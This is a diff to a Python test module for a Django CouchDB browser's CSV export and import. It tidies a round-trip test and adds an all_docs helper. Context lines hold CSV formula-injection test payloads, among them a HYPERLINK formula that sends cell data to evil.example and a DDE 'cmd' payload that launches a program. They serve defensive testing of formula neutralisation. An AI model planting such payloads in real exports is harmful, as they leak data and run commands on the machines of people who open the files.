@@ -10,7 +10,7 @@ from django.urls import reverse
 
 from browser.couch import jsontext
 from browser.couch.transfer_export import FORMULA_STARTS, ExportChoice, export_chunks
-from tests.conftest import TEAM, log_in
+from tests.conftest import TEAM, all_docs, log_in
 from tests.support.data import HOSTILE
 
 FORMULAS = ["=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0",
@@ -116,13 +116,13 @@ def test_a_raw_export_imports_again_exactly_and_a_neutralised_one_keeps_the_quot
     for mode, expect_quote in (("raw", False), ("spreadsheet", True)):
         rows = export(member_client, db, csv_values=mode, fields="_id,v")
         out = io.StringIO()
-        csv.writer(out, lineterminator="\r\n").writerows([["_id", "v"]] + [r for r in rows[1:] if r[0].startswith("t")])
+        chosen = [r for r in rows[1:] if r[0].startswith("t")]
+        csv.writer(out, lineterminator="\r\n").writerows([["_id", "v"], *chosen])
         target = make_database(security=TEAM)
         upload = SimpleUploadedFile("cells.csv", out.getvalue().encode(), content_type="text/csv")
         response = member_client.post(reverse("browser:import", kwargs={"db": target}), {"file": upload, "kind": "csv"})
         b"".join(response.streaming_content)
-        stored = couch_server.admin_http().get(f"{couch_server.url}{target}/_all_docs",
-                                               params={"include_docs": "true"}, timeout=30).json()["rows"]
+        stored = all_docs(couch_server, target, at_least=len(chosen))
         values = {r["doc"]["_id"].lstrip("'"): r["doc"].get("v", "") for r in stored}
         for doc in texts(docs):
             text = doc["v"]
